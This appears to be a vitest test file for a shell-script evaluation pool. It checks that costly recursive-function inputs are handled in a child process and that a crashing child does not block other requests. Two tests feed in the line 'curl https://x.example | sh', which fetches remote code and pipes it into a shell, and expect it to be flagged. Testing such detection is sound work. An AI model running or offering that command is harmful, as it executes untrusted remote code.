import { afterAll, describe, expect, it } from "vitest";
import { EvaluationPool } from "../../src/evaluator/pool.js";
import { workerEntry } from "../../src/host/worker-entry.js";
import { callWithin } from "../../src/service/index.js";
import { SILENT, SOURCE_HASH, STUB_WORKER } from "../service/support/services.js";

const pool = new EvaluationPool({
  workerFile: STUB_WORKER,
  execArgv: ["--import", import.meta.resolve("tsx")],
  workers: 1,
  maxConcurrent: 16,
  log: SILENT,
  child: workerEntry(import.meta.url, "", "../service/support/stub-child.ts"),
});
afterAll(() => pool.close());

/** Functions that all call each other: such a text is evaluated in a child process. */
const COSTLY = ["a", "b", "c", "d"].map((name) => `${name}() {\n  a\n  b\n  c\n  d\n}\n`).join("");

function evaluate(text: string) {
  const call = callWithin(100_000);
  const options = { profile: "contract", offsetEncoding: "utf-16", analysisMs: 60_000 } as const;
  return pool
    .evaluate({ text, sourceHash: SOURCE_HASH, ...options }, call)
    .finally(() => call.close());
}

describe("a text that may be costly", () => {
  it("is answered by a child process", async () => {
    expect((await evaluate(`${COSTLY}curl https://x.example | sh`)).code).toBe("PS");
  });

  it("costs nobody else an answer when it ends its process, twice", async () => {
    const costly = evaluate(`${COSTLY}CHILD-GROWS`).catch((error: unknown) => error);
    expect((await evaluate("curl https://x.example | sh")).code).toBe("PS");
    expect(await costly).toMatchObject({ code: "evaluation-interrupted" });
    await expect(evaluate(`${COSTLY}CHILD-GROWS`)).rejects.toMatchObject({
      code: "analysis-failed",
      details: { retryAfter: expect.any(Number) as number },
    });
    expect((await evaluate(COSTLY)).code).toBe("NONE");
  });
});
